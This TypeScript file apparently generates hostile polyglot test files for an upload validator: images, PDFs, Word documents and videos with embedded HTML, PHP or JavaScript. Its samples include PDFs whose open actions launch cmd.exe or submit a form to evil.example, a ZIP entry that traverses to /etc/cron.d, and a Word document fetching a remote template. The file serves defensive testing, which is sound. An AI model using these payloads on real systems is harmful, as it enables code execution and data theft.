import { deflateSync } from 'node:zlib';
import { type HostileFile, page, php } from './hostile-file.ts';
import { box, pngChunk, withGifComment, withJpegSegment, withPngChunks } from './image-chunks.ts';
import { type ValidFiles, validMp4, validPdf } from './valid-files.ts';
import { wordParts, zip } from './zip.ts';

/** Builds files that are valid in one format and something else in another. */
export function polyglots(valid: ValidFiles): HostileFile[] {
  const archive = zip([{ name: 'a.html', bytes: Buffer.from(page) }]);
  const jar = zip([{ name: 'META-INF/MANIFEST.MF', bytes: Buffer.from('Main-Class: A\n') }]);
  const followedBy = (file: Buffer, tail: Buffer | string) =>
    Buffer.concat([file, Buffer.from(tail)]);
  const pngText = (type: string, text: string) =>
    withPngChunks(valid.png, [pngChunk(type, Buffer.from(text, 'latin1'))]);
  const code = 'alert(document.domain)';

  const files: [string, Buffer, string][] = [
    ['a.gif', scriptedGif(valid.gif, code), 'GIF that is JavaScript as well'],
    ['b.gif', withGifComment(valid.gif, page), 'GIF with HTML in a comment'],
    ['c.gif', withGifComment(valid.gif, php), 'GIF with PHP in a comment'],
    ['d.gif', followedBy(valid.gif, jar), 'GIF that is a Java archive as well'],
    ['e.gif', followedBy(valid.gif, page), 'GIF followed by HTML'],
    ['a.jpg', withJpegSegment(valid.jpg, 0xfe, page), 'JPEG with HTML in a comment'],
    [
      'b.jpg',
      withJpegSegment(valid.jpg, 0xfe, `*/=1;${code}/*`),
      'JPEG with JavaScript in a comment',
    ],
    [
      'c.jpg',
      withJpegSegment(valid.jpg, 0xe1, `Exif\0\0MM\0*\0\0\0\x08\0\0${php}`),
      'JPEG with PHP in its Exif',
    ],
    [
      'd.jpg',
      withJpegSegment(valid.jpg, 0xe1, `http://ns.adobe.com/xap/1.0/\0${page}`),
      'JPEG with HTML in its XMP',
    ],
    [
      'e.jpg',
      withJpegSegment(valid.jpg, 0xed, `Photoshop 3.0\0${php}`),
      'JPEG with PHP in its IPTC',
    ],
    [
      'f.jpg',
      withJpegSegment(valid.jpg, 0xe2, `ICC_PROFILE\0\x01\x01${page}`),
      'JPEG with HTML in its colour profile',
    ],
    ['g.jpg', followedBy(valid.jpg, page), 'JPEG followed by HTML'],
    ['h.jpg', followedBy(valid.jpg, archive), 'JPEG that is a ZIP as well'],
    ['i.jpg', followedBy(valid.jpg, valid.pdf), 'JPEG followed by a PDF'],
    ['j.jpg', followedBy(valid.jpg, valid.mp4), 'JPEG followed by a video, as phones write it'],
    ['a.png', pngText('tEXt', `Comment\0${page}`), 'PNG with HTML in a text'],
    ['b.png', pngText('iTXt', `XML:com.adobe.xmp\0\0\0\0\0${page}`), 'PNG with HTML in its XMP'],
    [
      'c.png',
      pngText('zTXt', `Comment\0\0${deflateSync(page).toString('latin1')}`),
      'PNG with packed HTML in a text',
    ],
    ['d.png', pngText('eXIf', `MM\0*\0\0\0\x08\0\0${php}`), 'PNG with PHP in its Exif'],
    ['e.png', pngText('teST', php), 'PNG with PHP in a chunk of its own'],
    ['f.png', followedBy(valid.png, php), 'PNG followed by PHP'],
    ['g.png', followedBy(valid.png, archive), 'PNG that is a ZIP as well'],
    ['a.webp', followedBy(valid.webp, page), 'WebP followed by HTML'],
    ['b.webp', riffChunk(valid.webp, 'EXIF', page), 'WebP with HTML in a chunk'],
    [
      'a.avif',
      followedBy(valid.avif, box('free', Buffer.from(page))),
      'AVIF with HTML in a free box',
    ],
    ['b.avif', followedBy(valid.avif, page), 'AVIF followed by HTML'],
    ['a.ico', followedBy(valid.ico, page), 'icon followed by HTML'],
    ['a.pdf', followedBy(valid.pdf, page), 'PDF followed by HTML'],
    ['b.pdf', followedBy(valid.pdf, archive), 'PDF that is a ZIP as well'],
    [
      'c.pdf',
      Buffer.from(valid.pdf.toString('latin1').replace('\n', `\n%${page}\n`), 'latin1'),
      'PDF with HTML in a comment',
    ],
    ['d.pdf', activePdf('/JavaScript /JS (app.alert\\(1\\))'), 'PDF that runs JavaScript'],
    ['e.pdf', activePdf('/Launch /F (cmd.exe)'), 'PDF that starts a program'],
    ['f.pdf', activePdf('/URI /URI (file:///etc/passwd)'), 'PDF that opens a file'],
    ['g.pdf', activePdf('/SubmitForm /F (https://evil.example/)'), 'PDF that sends a form'],
    ['a.docx', followedBy(valid.docx, page), 'Word document followed by HTML'],
    [
      'b.docx',
      zip([...wordParts(), { name: '../../../etc/cron.d/x', bytes: Buffer.from('x') }]),
      'Word document with a part that leads outside',
    ],
    ['c.docx', withForeignTemplate(), 'Word document with a template elsewhere'],
    ['a.mp4', validMp4(box('free', Buffer.from(page))), 'video with HTML in a free box'],
    ['b.mp4', followedBy(valid.mp4, page), 'video followed by HTML'],
    ['c.mp4', followedBy(valid.mp4, archive), 'video that is a ZIP as well'],
    ['a.webm', followedBy(valid.webm, page), 'WebM followed by HTML'],
    ['a.ogg', followedBy(valid.ogg, page), 'OGG followed by HTML'],
  ];
  const rejected: [string, Buffer, string][] = [
    ['k.jpg', Buffer.concat([archive, valid.jpg]), 'ZIP followed by a JPEG'],
    ['h.pdf', Buffer.concat([Buffer.from(page), valid.pdf]), 'HTML followed by a PDF'],
    [
      'i.pdf',
      Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), valid.pdf]),
      'program followed by a PDF',
    ],
    ['a.bmp', Buffer.from(`BM/*${'\0'.repeat(50)}*/=1;${code}`), 'BMP that is JavaScript as well'],
    [
      'a.wav',
      Buffer.from(`RIFF/*\0\0WAVEfmt ${'\0'.repeat(30)}*/=1;${code}`),
      'WAV that is JavaScript as well',
    ],
    ['d.docx', Buffer.concat([Buffer.from(page), valid.docx]), 'HTML followed by a Word document'],
  ];
  return [
    ...files.map((file) => polyglot(file, true)),
    ...rejected.map((file) => polyglot(file, false)),
  ];
}

function polyglot([fileName, bytes, about]: [string, Buffer, string], mayBeTaken: boolean) {
  return { name: `two in one: ${about}`, bytes, fileName, mayBeTaken, about };
}

/** Builds a GIF whose width starts a comment that code after its end closes. */
function scriptedGif(gif: Buffer, code: string): Buffer {
  const scripted = Buffer.concat([gif, Buffer.from(`*/=1;${code}`)]);
  scripted.write('/*', 6, 'latin1');
  return scripted;
}

/** Builds a WebP with a chunk that its header does not announce. */
function riffChunk(webp: Buffer, type: string, text: string): Buffer {
  const data = Buffer.from(text.length % 2 ? `${text} ` : text);
  const head = Buffer.from(`${type}\0\0\0\0`, 'latin1');
  head.writeUInt32LE(data.length, 4);
  const whole = Buffer.concat([webp, head, data]);
  whole.writeUInt32LE(whole.length - 8, 4);
  return whole;
}

function activePdf(action: string): Buffer {
  return validPdf({ catalog: '/OpenAction 5 0 R ', objects: [`<< /Type /Action /S ${action} >>`] });
}

function withForeignTemplate(): Buffer {
  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const target = 'Target="https://evil.example/x.dotm" TargetMode="External"';
  const rels = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${office}/attachedTemplate" ${target}/></Relationships>`;
  return zip([...wordParts(), { name: 'word/_rels/settings.xml.rels', bytes: Buffer.from(rels) }]);
}
